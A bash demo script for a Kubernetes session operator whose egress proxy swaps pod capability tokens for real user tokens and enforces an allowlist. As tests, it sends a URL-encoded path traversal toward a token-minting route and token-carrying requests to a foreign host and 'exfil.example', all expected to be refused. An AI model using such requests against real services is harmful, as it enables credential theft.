#!/usr/bin/env bash
# make demo — the main job on real input, on loopback, with no cluster.
#
# It starts etcd and kube-apiserver (built by `make envtest`), installs the real manifests (config/default: CRD,
# RBAC, webhook configuration), runs the manager and the egress as local processes under their own
# ServiceAccounts, starts a stand-in for api.kilo.ai and session ingest, applies config/samples, and then shows:
#   1. the KiloSession's status;
#   2. the injected pod and the capability's claims (redacted);
#   3. requests from the pod's address through the interceptor: allowed ones reach the upstream with the real
#      token (never the capability), refused ones never reach it;
#   4. rotation of the user token and revocation by suspending the session;
#   5. a one-line summary.
# Exit 0 only if every check held.
#
# Environment: KEEP=1 leaves everything running (prints how to explore and how to stop).
#              DEMO_WORKDIR=DIR uses DIR instead of a fresh temp dir.  NO_COLOR=1 disables colour.
# Usage:       hack/demo/demo.sh            run the demo
#              hack/demo/demo.sh stop DIR   stop a KEEP=1 demo started in DIR
set -euo pipefail

ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)"
# shellcheck source=hack/demo/controlplane.sh
source "$ROOT/hack/demo/controlplane.sh"

if [[ "${1:-}" == "stop" ]]; then
  WORK="${2:?usage: demo.sh stop WORKDIR}"
  WORK="$(cd "$WORK" 2>/dev/null && pwd)" || { echo "no such demo work directory: $2" >&2; exit 1; }
  if [[ ! -f "$WORK/pids" ]]; then
    [[ -f "$WORK/pids.all" ]] || { echo "$WORK is not a demo work directory (no pids file)" >&2; exit 1; }
    echo "the demo in $WORK is already stopped"
  else
    # Returns only once every process is gone: components, then kube-apiserver, then etcd.
    stop_all
    echo "stopped the demo in $WORK"
  fi
  # The work directory stays: its logs are often why the demo was kept. Nothing in it is needed any more.
  echo "its logs are in $WORK/logs; remove it with: rm -rf '$WORK'"
  exit 0
fi

KEEP="${KEEP:-0}"
[[ "$KEEP" == "0" || "$KEEP" == "" ]] && KEEP=0 || KEEP=1
WORK="${DEMO_WORKDIR:-$(mktemp -d "${TMPDIR:-/tmp}/kilo-demo.XXXXXX")}"
mkdir -p "$WORK"
WORK="$(cd "$WORK" && pwd)" # absolute: `demo.sh stop` recognises the demo's processes by it
NS=kilo-demo              # where the samples go
OPNS=kilo-system          # where the operator's Secrets live (config/default's namespace)
SESSION=demo              # config/samples KiloSession
POD=demo-agent            # config/samples session pod
POD_IP=127.0.0.2          # the pod's address: a second loopback address, as a node would assign a pod IP

# The demo talks to loopback only. A proxy in the environment would capture kubectl's, curl's and the
# components' own traffic, so clear it for everything this script starts.
unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy NO_PROXY no_proxy

# ---------------------------------------------------------------------------------------------------------------
# Presentation and bookkeeping.

if [[ -t 1 && -z "${NO_COLOR:-}" ]]; then
  B=$'\e[1m'; G=$'\e[32m'; R=$'\e[31m'; Y=$'\e[33m'; D=$'\e[2m'; N=$'\e[0m'
else
  B=""; G=""; R=""; Y=""; D=""; N=""
fi
CURRENT_STEP="setup"
PASSED=0
START=$SECONDS

section() { CURRENT_STEP="$1"; printf '\n%s━━ %s%s\n' "$B" "$1" "$N"; }
say()     { printf '%s\n' "$*"; }
show()    { printf '%s$ %s%s\n' "$D" "$*" "$N"; }
ok()      { PASSED=$((PASSED + 1)); printf '  %s✔%s %s\n' "$G" "$N" "$*"; }
indent()  { sed 's/^/    /'; }

fail() {
  printf '\n%s✘ FAILED in step "%s": %s%s\n' "$R" "$CURRENT_STEP" "$*" "$N" >&2
  if [[ -s "$WORK/curl.err" ]]; then
    printf '%slast curl said: %s%s\n' "$D" "$(tail -n 1 "$WORK/curl.err")" "$N" >&2
  fi
  if [[ -d "$WORK/logs" ]]; then
    for f in manager egress upstream; do
      [[ -f "$WORK/logs/$f.log" ]] || continue
      printf '\n%s--- last lines of %s ---%s\n' "$D" "$WORK/logs/$f.log" "$N" >&2
      tail -n 15 "$WORK/logs/$f.log" >&2
    done
  fi
  exit 1
}

# check DESCRIPTION CMD...: runs CMD; a non-zero exit fails the demo with DESCRIPTION.
check() {
  local what=$1; shift
  if "$@" >/dev/null; then ok "$what"; else fail "expected: $what"; fi
}

cleanup() {
  local rc=$?
  if (( KEEP )) && (( rc == 0 )); then
    return
  fi
  stop_all
  if (( rc == 0 )) && [[ -z "${DEMO_WORKDIR:-}" ]]; then
    rm -rf "$WORK"
  elif (( rc != 0 )); then
    printf '%slogs and state kept in %s%s\n' "$D" "$WORK" "$N" >&2
  fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ---------------------------------------------------------------------------------------------------------------
# Preflight and build.

section "Setup"
for tool in kubectl curl openssl jq go; do
  command -v "$tool" >/dev/null || case "$tool" in
    go) fail "go is required: install Go (https://go.dev/dl/, the version in go.mod) and put it on PATH" ;;
    kubectl) fail "kubectl is required: https://kubernetes.io/docs/tasks/tools/ (any version within one minor of v1.37)" ;;
    *) fail "$tool is required: install it (Debian/Ubuntu: sudo apt-get install -y $tool; macOS: brew install $tool)" ;;
  esac
done
[[ -x "$ROOT/bin/k8s/etcd" && -x "$ROOT/bin/k8s/kube-apiserver" ]] ||
  fail "bin/k8s has no etcd/kube-apiserver: run 'make envtest' (make demo does it for you)"

say "work dir: $WORK"
show "go build ./cmd/manager ./cmd/egress ./cmd/kubectl-kilo ./hack/demo/upstream"
BIN="$WORK/bin"
mkdir -p "$BIN"
(cd "$ROOT" && go build -o "$BIN/" ./cmd/manager ./cmd/egress ./cmd/kubectl-kilo ./hack/demo/upstream) ||
  fail "building the binaries"
kilo() { "$BIN/kubectl-kilo" "$@"; }

show "start etcd and kube-apiserver on 127.0.0.1 (certificates, service-account signing keys, admission webhooks)"
start_controlplane || fail "starting the local control plane"
ok "control plane up at https://127.0.0.1:$API_PORT (kubeconfig $KUBECONFIG)"

# The stand-in upstream: two HTTPS listeners (api.kilo.ai and ingest) and a control endpoint that reports what
# they received.
mkdir -p "$WORK/upstream"
start_bg upstream "$BIN/upstream" --state-dir "$WORK/upstream"
wait_for "the stand-in upstream" 20 upstream test -s "$WORK/upstream/addresses.json" || fail "starting the stand-in upstream"
UP_API=$(jq -r .api "$WORK/upstream/addresses.json")
UP_INGEST=$(jq -r .ingest "$WORK/upstream/addresses.json")
UP_CONTROL=$(jq -r .control "$WORK/upstream/addresses.json")
ok "stand-in upstream: api $UP_API, ingest $UP_INGEST"
# The session pod's address is a second loopback address. Linux routes all of 127.0.0.0/8 to lo; macOS needs an
# alias first.
curl -fsS --max-time 5 --interface "$POD_IP" "$UP_CONTROL/healthz" >/dev/null 2>&1 ||
  fail "$POD_IP is not usable as a source address here (on macOS: sudo ifconfig lo0 alias $POD_IP up)"

# ---------------------------------------------------------------------------------------------------------------
# Install the real manifests.

show "kubectl apply -f <(kubectl kustomize config/default)   # CRD, namespace, RBAC, ServiceAccounts, webhook"
kubectl kustomize "$ROOT/config/default" >"$WORK/install.yaml" || fail "rendering config/default"
# With no kubelet, scheduler or controller-manager the Deployments stay at zero pods: the demo runs the same
# binaries as local processes, authenticated as the same ServiceAccounts, so the manifests' RBAC is what is tested.
kubectl apply --server-side -f "$WORK/install.yaml" >"$WORK/logs/install.log" 2>&1 ||
  { cat "$WORK/logs/install.log" >&2; fail "applying config/default"; }
kubectl wait --for condition=Established crd/kilosessions.kilo.ai --timeout 30s >/dev/null ||
  fail "the KiloSession CRD did not become established"
ok "config/default applied ($(grep -c '^kind:' "$WORK/install.yaml") objects)"

# The API server cannot reach a Service here (no kube-proxy, no endpoints), so the webhook is called by URL on
# loopback. The caBundle stays the manager's to write (self-managed certificates, its own field manager).
WEBHOOK_CONFIG=$(kubectl get mutatingwebhookconfigurations -l app.kubernetes.io/name=kilo-session-operator \
  -o jsonpath='{.items[0].metadata.name}' 2>/dev/null || true)
[[ -n "$WEBHOOK_CONFIG" ]] || WEBHOOK_CONFIG=kilo-pod-injector
WEBHOOK_PATH=$(kubectl get mutatingwebhookconfiguration "$WEBHOOK_CONFIG" -o jsonpath='{.webhooks[0].clientConfig.service.path}') ||
  fail "config/default has no MutatingWebhookConfiguration $WEBHOOK_CONFIG"
alloc_port WEBHOOK_PORT
kubectl patch mutatingwebhookconfiguration "$WEBHOOK_CONFIG" --type json -p "[
  {\"op\":\"remove\",\"path\":\"/webhooks/0/clientConfig/service\"},
  {\"op\":\"add\",\"path\":\"/webhooks/0/clientConfig/url\",\"value\":\"https://127.0.0.1:$WEBHOOK_PORT$WEBHOOK_PATH\"}]" >/dev/null ||
  fail "pointing the webhook at 127.0.0.1:$WEBHOOK_PORT"
ok "webhook $WEBHOOK_CONFIG → https://127.0.0.1:$WEBHOOK_PORT$WEBHOOK_PATH"

# ---------------------------------------------------------------------------------------------------------------
# Run the manager and the egress as their ServiceAccounts.

kubectl create --dry-run=client -o json -f "$WORK/install.yaml" >"$WORK/install.json" || fail "reading config/default"
sa_of() {
  jq -rs --arg c "$1" '.[] | select(.kind == "Deployment" and .metadata.labels["app.kubernetes.io/component"] == $c)
    | .spec.template.spec.serviceAccountName' "$WORK/install.json" | head -1
}
MANAGER_SA=$(sa_of manager)
EGRESS_SA=$(sa_of egress)
[[ -n "$MANAGER_SA" && -n "$EGRESS_SA" ]] || fail "finding the manager's and the egress's ServiceAccounts in config/default"
sa_kubeconfig "$OPNS" "$MANAGER_SA" "$WORK/manager.kubeconfig" || fail "minting a token for $MANAGER_SA"
sa_kubeconfig "$OPNS" "$EGRESS_SA" "$WORK/egress.kubeconfig" || fail "minting a token for $EGRESS_SA"

ALLOWLIST="$UP_API,$UP_INGEST"
alloc_port MANAGER_METRICS; alloc_port MANAGER_PROBES
alloc_port PROXY_PORT; alloc_port REDEEM_PORT; alloc_port EGRESS_PROBES; alloc_port EGRESS_METRICS

show "manager --kubeconfig manager.kubeconfig --upstream-allowlist $ALLOWLIST --webhook-extra-san 127.0.0.1 …"
start_bg manager "$BIN/manager" \
  --kubeconfig "$WORK/manager.kubeconfig" \
  --operator-namespace "$OPNS" \
  --leader-elect \
  --upstream-allowlist "$ALLOWLIST" \
  --egress-proxy-url "http://127.0.0.1:$PROXY_PORT" \
  --webhook-config-name "$WEBHOOK_CONFIG" \
  --webhook-bind-host 127.0.0.1 --webhook-port "$WEBHOOK_PORT" --webhook-extra-san 127.0.0.1 \
  --metrics-bind-address "127.0.0.1:$MANAGER_METRICS" \
  --health-probe-bind-address "127.0.0.1:$MANAGER_PROBES" \
  --zap-log-level info
wait_for "the manager to be ready" 90 manager curl -fsS "http://127.0.0.1:$MANAGER_PROBES/readyz" ||
  fail "the manager did not become ready"
ok "manager ready (controller, webhook on 127.0.0.1:$WEBHOOK_PORT, metrics on 127.0.0.1:$MANAGER_METRICS)"

show "egress --kubeconfig egress.kubeconfig --proxy-bind-address 127.0.0.1:$PROXY_PORT --upstream-ca-file upstream-ca.crt …"
# TODO(integration): egress flag names follow cmd/egress (helper 6); adjust here if they differ.
start_bg egress "$BIN/egress" \
  --kubeconfig "$WORK/egress.kubeconfig" \
  --operator-namespace "$OPNS" \
  --upstream-allowlist "$ALLOWLIST" \
  --upstream-ca-file "$WORK/upstream/ca.crt" \
  --blind-tunnel refuse \
  --proxy-bind-address "127.0.0.1:$PROXY_PORT" \
  --redeem-bind-address "127.0.0.1:$REDEEM_PORT" \
  --metrics-bind-address "127.0.0.1:$EGRESS_METRICS" \
  --health-probe-bind-address "127.0.0.1:$EGRESS_PROBES"
wait_for "the egress to be ready" 90 egress curl -fsS "http://127.0.0.1:$EGRESS_PROBES/readyz" ||
  fail "the egress did not become ready"
ok "egress ready (proxy on 127.0.0.1:$PROXY_PORT, redeem API on 127.0.0.1:$REDEEM_PORT)"

# ---------------------------------------------------------------------------------------------------------------
# The real input: config/samples, with the targets pointed at the stand-in upstream.

mkdir -p "$ROOT/tmp"
OVERLAY="$(mktemp -d "$ROOT/tmp/demo-overlay.XXXXXX")"
cat >"$OVERLAY/kustomization.yaml" <<EOF
# Generated by hack/demo/demo.sh: config/samples, in namespace $NS, with the targets on the stand-in upstream.
namespace: $NS
resources:
- ../../config/samples
patches:
- target: {kind: KiloSession, name: $SESSION}
  patch: |-
    - {op: replace, path: /spec/targets/backendBaseUrl, value: "$UP_API"}
    - {op: replace, path: /spec/targets/providerBaseUrl, value: "$UP_API/api/openrouter"}
    - {op: replace, path: /spec/targets/sessionIngestBaseUrl, value: "$UP_INGEST"}
EOF
section "Apply config/samples"
say "The samples: an opted-in token Secret, the KiloSession \"$SESSION\" and the session pod \"$POD\"."
say "The demo overlay only moves the targets to the stand-in upstream:"
sed -n '/patch:/,$p' "$OVERLAY/kustomization.yaml" | indent
kubectl create namespace "$NS" >/dev/null
# Server-side apply: a client-side apply would keep the token Secret's value in its last-applied-configuration
# annotation, where it would survive the rotation in step 4 (see the README's "Security model").
show "kubectl apply --server-side -k <overlay of config/samples>"
# The webhook admits a session pod only once the egress CA bundle has been copied into its namespace, which the
# manager does when the namespace gets its first KiloSession — created by this same apply. So the first apply may
# see the pod refused with "retry shortly"; applying again is what a GitOps tool does on its next sync.
applied=0
for attempt in $(seq 1 30); do
  if kubectl apply --server-side -k "$OVERLAY" >"$WORK/logs/apply.log" 2>&1; then applied=1; break; fi
  alive manager || break
  if (( attempt == 1 )); then
    indent <"$WORK/logs/apply.log"
    say "  ${Y}the pod was refused until the CA bundle reaches $NS; applying again, as a GitOps sync would${N}"
  fi
  sleep 1
done
indent <"$WORK/logs/apply.log"
(( applied )) || fail "applying config/samples"
rm -rf "$OVERLAY"

# There is no kubelet: give the pod an address the way a node would, through the status subresource.
show "kubectl patch pod $POD --subresource status   # status.podIP=$POD_IP, phase Running (what a kubelet reports)"
kubectl -n "$NS" patch pod "$POD" --subresource status --type merge -p "{\"status\":{\"phase\":\"Running\",
  \"podIP\":\"$POD_IP\",\"podIPs\":[{\"ip\":\"$POD_IP\"}],\"hostIP\":\"127.0.0.1\"}}" >/dev/null ||
  fail "setting the pod's IP"

CAP_SECRET=$(kubectl -n "$NS" get pod "$POD" -o jsonpath='{.metadata.annotations.kilo\.ai/capability-secret}')
[[ -n "$CAP_SECRET" ]] || fail "the webhook did not record a capability Secret name on the pod (was it injected?)"
wait_for "capability Secret $CAP_SECRET" 60 manager kubectl -n "$NS" get secret "$CAP_SECRET" ||
  fail "the capability Secret $CAP_SECRET was not issued"
wait_for "KiloSession Ready" 60 manager kubectl -n "$NS" wait ks "$SESSION" --for condition=Ready --timeout 2s ||
  fail "the KiloSession did not become Ready"

# ---------------------------------------------------------------------------------------------------------------
section "1. The KiloSession's status"
show "kubectl get ks -n $NS -o wide"
kubectl -n "$NS" get ks -o wide | indent
show "kubectl kilo status -n $NS $SESSION"
kilo status -n "$NS" "$SESSION" | indent || fail "kubectl kilo status reports the session not Ready"
check "Ready=True, one pod holding a capability" \
  test "$(kubectl -n "$NS" get ks "$SESSION" -o jsonpath='{.status.issuedPods}')" = "1"

# ---------------------------------------------------------------------------------------------------------------
section "2. The injected pod and its capability"
show "kubectl get pod $POD -o json | jq …   # what the webhook added to the sample pod"
kubectl -n "$NS" get pod "$POD" -o json | jq -r '
  "annotations:", (.metadata.annotations | to_entries[] | select(.key | startswith("kilo.ai/")) | "  \(.key): \(.value)"),
  "volumes:", (.spec.volumes[] | select(.name | startswith("kilo-")) | "  \(.name): " +
      (if .secret then "Secret \(.secret.secretName) (optional: \(.secret.optional))" else "ConfigMap \(.configMap.name)" end)),
  "container \(.spec.containers[0].name), env:", (.spec.containers[0].env[] | "  \(.name)=" +
      (if .valueFrom then "<Secret \(.valueFrom.secretKeyRef.name), key \(.valueFrom.secretKeyRef.key)>" else .value end)),
  "container \(.spec.containers[0].name), mounts:", (.spec.containers[0].volumeMounts[] | "  \(.mountPath) ← \(.name)" +
      (if .readOnly then " (read-only)" else "" end))' | indent
POD_JSON=$(kubectl -n "$NS" get pod "$POD" -o json)
has_env() { jq -e --arg n "$1" '.spec.containers[0].env[]? | select(.name == $n)' <<<"$POD_JSON" >/dev/null; }
check "KILOCODE_TOKEN comes from the capability Secret" \
  jq -e --arg s "$CAP_SECRET" '.spec.containers[0].env[] | select(.name=="KILOCODE_TOKEN") | .valueFrom.secretKeyRef.name == $s' <<<"$POD_JSON"
check "HTTPS_PROXY points at the egress" has_env HTTPS_PROXY
check "NO_PROXY keeps cluster-local traffic direct" has_env NO_PROXY
check "NODE_EXTRA_CA_CERTS trusts the interceptor CA" has_env NODE_EXTRA_CA_CERTS
check "the user's raw token appears nowhere in the pod spec" \
  bash -c '! grep -q "replace-me-with-a-kilo-token" <<<"$1"' _ "$POD_JSON"

# The key ring is what the manager generated on first start; an administrator can read it, nobody else needs to.
kubectl -n "$OPNS" get secret kilo-capability-keys -o jsonpath='{.data.keys}' | base64 -d >"$WORK/keys"
capability() { kubectl -n "$NS" get secret "$CAP_SECRET" -o jsonpath='{.data.token}' | base64 -d; }
TOKEN=$(capability)
show "kubectl get secret $CAP_SECRET -o jsonpath={.data.token} | base64 -d | kubectl kilo capability decode --key-file keys"
say "    ${TOKEN:0:24}… (${#TOKEN} characters)"
kilo capability decode --key-file "$WORK/keys" <<<"$TOKEN" |
  jq '.claims.issuedAt |= "\(.) (\(. / 1000 | floor | todate))" | .claims.expiresAt |= "\(.) (\(. / 1000 | floor | todate))"' | indent
POD_UID=$(kubectl -n "$NS" get pod "$POD" -o jsonpath='{.metadata.uid}')
check "the capability is bound to this pod's UID and redacts the token" \
  bash -c 'kilo_out=$("$1" capability decode --key-file "$2" <<<"$3"); jq -e --arg uid "$4" ".ok and .claims.outboundContainerId == \$uid and .claims.userToken == \"[REDACTED]\"" <<<"$kilo_out" >/dev/null' \
  _ "$BIN/kubectl-kilo" "$WORK/keys" "$TOKEN" "$POD_UID"

say "The operator's own reach is narrowed below RBAC by admission policies (config/default/secret-write-policy.yaml):"
check "the manager's ServiceAccount cannot create a Secret that is not a capability" \
  bash -c '! KUBECONFIG="$1" kubectl -n "$2" create secret generic kilo-probe --from-literal=token=x 2>/dev/null' _ "$WORK/manager.kubeconfig" "$NS"
check "the egress's ServiceAccount cannot create any Secret but its CA" \
  bash -c '! KUBECONFIG="$1" kubectl -n "$2" create secret generic kilo-probe --from-literal=token=x 2>/dev/null' _ "$WORK/egress.kubeconfig" "$OPNS"

# ---------------------------------------------------------------------------------------------------------------
section "3. Requests from the pod through the interceptor"
# The interceptor CA bundle, as the pod sees it: the ConfigMap the manager published in the session namespace.
kubectl -n "$NS" get configmap kilo-egress-ca-bundle -o jsonpath='{.data.ca\.crt}' >"$WORK/pod-ca.crt" ||
  fail "the egress CA bundle was not published into $NS"
[[ -s "$WORK/pod-ca.crt" ]] || fail "the egress CA bundle in $NS is empty"
say "The pod's view: source address $POD_IP, HTTPS_PROXY=http://127.0.0.1:$PROXY_PORT, CA from ConfigMap kilo-egress-ca-bundle."

# pod_curl URL [curl args…]: a request as the session pod makes it. Prints the body; the HTTP status goes to
# $WORK/status (for a CONNECT refusal, the proxy's CONNECT status).
pod_curl() {
  local url=$1; shift
  rm -f "$WORK/body" # a failed request must never be judged by the previous one's body
  curl -sS --path-as-is --max-time 20 \
    --proxy "http://127.0.0.1:$PROXY_PORT" --interface "$POD_IP" --cacert "$WORK/pod-ca.crt" \
    -H "Authorization: Bearer $TOKEN" \
    -o "$WORK/body" -w '%{http_code} %{http_connect}' "$@" "$url" >"$WORK/status" 2>"$WORK/curl.err" || true
  cat "$WORK/body" 2>/dev/null || true
}
status()    { cut -d' ' -f1 <"$WORK/status"; }
connect()   { cut -d' ' -f2 <"$WORK/status"; }
seen()      { curl -fsS "$UP_CONTROL/_seen"; }
seen_count() { seen | jq length; }
last_auth() { seen | jq -r '.[-1].authorization'; }
USER_TOKEN=$(kubectl -n "$NS" get secret kilo-user-token -o jsonpath='{.data.token}' | base64 -d)

# The egress learns the pod's address and the session's targets through informers. Wait until it answers a
# request that the policy refuses (so nothing reaches the upstream) with the policy's reason: then it knows both.
wait_for "the egress to know the pod and its session" 30 egress bash -c '
  curl -sS --max-time 5 --proxy "http://127.0.0.1:$1" --interface "$2" --cacert "$3" -H "Authorization: Bearer $4" \
    "$5/api/session/ses_probe/export" | jq -e ".reason == \"upstream_not_allowed\""' \
  _ "$PROXY_PORT" "$POD_IP" "$WORK/pod-ca.crt" "$TOKEN" "$UP_INGEST" || fail "the egress does not recognise the session pod"

say ""
say "${B}a) a model call${N} (provider route)"
show "curl --proxy http://127.0.0.1:$PROXY_PORT --interface $POD_IP --cacert ca.crt -H \"Authorization: Bearer \$KILOCODE_TOKEN\" $UP_API/api/openrouter/chat/completions"
pod_curl "$UP_API/api/openrouter/chat/completions" -H 'Content-Type: application/json' \
  -d '{"model":"kilo/demo-model","messages":[{"role":"user","content":"hello"}]}' | jq -c . | indent
check "200 from the upstream" test "$(status)" = 200
say "    the pod sent:          Authorization: Bearer ${TOKEN:0:16}… (the capability)"
say "    the upstream received: Authorization: $(last_auth)   (the user's token, swapped in by the egress)"
check "the upstream saw the user's real token, not the capability" test "$(last_auth)" = "Bearer $USER_TOKEN"

say ""
say "${B}b) a session export${N} (session ingest, this session)"
show "curl … $UP_INGEST/api/session/ses_demo_0001/export"
KSID=$(kubectl -n "$NS" get ks "$SESSION" -o jsonpath='{.spec.kiloSessionId}')
pod_curl "$UP_INGEST/api/session/$KSID/export" | jq -c . | indent
check "200 from session ingest" test "$(status)" = 200
check "the upstream saw the user's real token" test "$(last_auth)" = "Bearer $USER_TOKEN"
check "the upstream never saw a capability" test "$(seen | jq '[.[] | select(.capability)] | length')" = 0

BEFORE=$(seen_count)
refused() {
  # refused REASON: the last request was refused by the egress with REASON and never reached the upstream.
  jq -e --arg r "$1" '.reason == $r' "$WORK/body" >/dev/null && test "$(seen_count)" = "$BEFORE"
}

say ""
say "${B}c) path traversal${N} out of the provider route towards a credential-minting route"
show "curl --path-as-is … '$UP_API/api/openrouter/%2e%2e/%2e%2e/api/organizations/org-1/user-tokens'"
pod_curl "$UP_API/api/openrouter/%2e%2e/%2e%2e/api/organizations/org-1/user-tokens" | indent
echo
check "403 invalid_upstream_url, nothing forwarded" bash -c '[[ "$1" == 403 ]]' _ "$(status)"
refused invalid_upstream_url || fail "the traversal was not refused as invalid_upstream_url"
say "  The same answer without a pod, from the KiloSession alone (the troubleshooting tool):"
show "kubectl kilo check -n $NS $SESSION '$UP_API/api/openrouter/%2e%2e/%2e%2e/api/organizations/org-1/user-tokens'"
kilo check -n "$NS" "$SESSION" "$UP_API/api/openrouter/%2e%2e/%2e%2e/api/organizations/org-1/user-tokens" | indent || true

say ""
say "${B}d) another session's export${N}"
show "curl … $UP_INGEST/api/session/ses_someone_else/export"
pod_curl "$UP_INGEST/api/session/ses_someone_else/export" | indent
echo
check "403 upstream_not_allowed, nothing forwarded" bash -c '[[ "$1" == 403 ]]' _ "$(status)"
refused upstream_not_allowed || fail "another session's export was not refused as upstream_not_allowed"

say ""
say "${B}e) a foreign host${N} with the capability attached"
show "curl … http://localhost:${UP_CONTROL##*:}/collect   # a host that is not a target"
pod_curl "http://localhost:${UP_CONTROL##*:}/collect" | indent
echo
check "403 upstream_not_allowed, nothing forwarded" bash -c '[[ "$1" == 403 ]]' _ "$(status)"
refused upstream_not_allowed || fail "the foreign host was not refused as upstream_not_allowed"
show "curl … https://exfil.example/   # CONNECT to a host that is not a target: no tunnel is opened"
pod_curl "https://exfil.example/" >/dev/null
check "CONNECT refused with 403 (blind tunnels are refused in the demo: loopback only)" test "$(connect)" = 403

# ---------------------------------------------------------------------------------------------------------------
section "4. Rotation and revocation"
OLD_TOKEN=$TOKEN
say "${B}a) the user's token changes${N}"
show "kubectl patch secret kilo-user-token -p '{\"stringData\":{\"token\":\"kilo-user-token-v2\"}}'"
T0=$SECONDS
kubectl -n "$NS" patch secret kilo-user-token --type merge -p '{"stringData":{"token":"kilo-user-token-v2"}}' >/dev/null
wait_for "the capability to be re-issued" 30 manager bash -c '[[ "$(kubectl -n "$1" get secret "$2" -o jsonpath="{.data.token}" | base64 -d)" != "$3" ]]' \
  _ "$NS" "$CAP_SECRET" "$OLD_TOKEN" || fail "the capability was not re-issued after the token changed"
ok "capability Secret $CAP_SECRET re-issued $((SECONDS - T0))s after the token change"
TOKEN=$(capability)
pod_curl "$UP_API/api/openrouter/chat/completions" -d '{}' -H 'Content-Type: application/json' >/dev/null
say "    the upstream received: Authorization: $(last_auth)"
check "200, and the upstream now sees the new token" \
  bash -c '[[ "$1" == 200 && "$2" == "Bearer kilo-user-token-v2" ]]' _ "$(status)" "$(last_auth)"

say ""
say "${B}b) the session is suspended${N}"
show "kubectl patch ks $SESSION -p '{\"spec\":{\"suspend\":true}}'"
kubectl -n "$NS" patch ks "$SESSION" --type merge -p '{"spec":{"suspend":true}}' >/dev/null
# The egress learns of the suspension through its informer, within milliseconds; wait for it, then judge a request.
wait_for "the egress to refuse the capability" 30 egress bash -c '
  curl -sS --max-time 10 --proxy "http://127.0.0.1:$1" --interface "$2" --cacert "$3" -H "Authorization: Bearer $4" \
    "$5/api/openrouter/chat/completions" | jq -e ".reason == \"capability_revoked\""' \
  _ "$PROXY_PORT" "$POD_IP" "$WORK/pod-ca.crt" "$TOKEN" "$UP_API" || fail "the suspended session's capability was not refused"
BEFORE=$(seen_count)
pod_curl "$UP_API/api/openrouter/chat/completions" | indent
echo
check "403 capability_revoked, nothing forwarded" refused capability_revoked
wait_for "Ready=False/Suspended" 30 manager bash -c \
  '[[ "$(kubectl -n "$1" get ks "$2" -o jsonpath="{.status.conditions[?(@.type==\"Ready\")].reason}")" == Suspended ]]' _ "$NS" "$SESSION" ||
  fail "the KiloSession does not report Suspended"
ok "KiloSession reports Ready=False, reason Suspended"
wait_for "the capability Secret to be deleted" 30 manager bash -c '! kubectl -n "$1" get secret "$2" >/dev/null 2>&1' _ "$NS" "$CAP_SECRET" ||
  fail "the capability Secret was not deleted on suspend"
ok "capability Secret $CAP_SECRET deleted"

# ---------------------------------------------------------------------------------------------------------------
section "5. Summary"
check "across the whole run the upstream received $(seen_count) requests, none carrying a capability" \
  test "$(seen | jq '[.[] | select(.capability)] | length')" = 0
printf '%s✔ demo passed: %d checks in %ds — issued, injected, redeemed with the real token, refused traversal, other-session and foreign-host requests, rotated, revoked.%s\n' \
  "$G" "$PASSED" "$((SECONDS - START))" "$N"

if (( KEEP )); then
  cat <<EOF

Everything is still running (KEEP=1). Explore:
  export KUBECONFIG=$KUBECONFIG
  kubectl get ks -A; kubectl -n $NS get pod $POD -o yaml
  $BIN/kubectl-kilo status -n $NS $SESSION
  $BIN/kubectl-kilo check -n $NS $SESSION $UP_API/api/openrouter/chat/completions
  curl -s $UP_CONTROL/_seen | jq .            # what the stand-in upstream received
  logs: $WORK/logs/{manager,egress,upstream,kube-apiserver,etcd}.log
Unsuspend the session and give the pod its capability back:
  kubectl -n $NS patch ks $SESSION --type merge -p '{"spec":{"suspend":false}}'
Stop (waits until every process is gone; the work directory and its logs stay until you remove them):
  $ROOT/hack/demo/demo.sh stop $WORK && rm -rf $WORK
EOF
fi
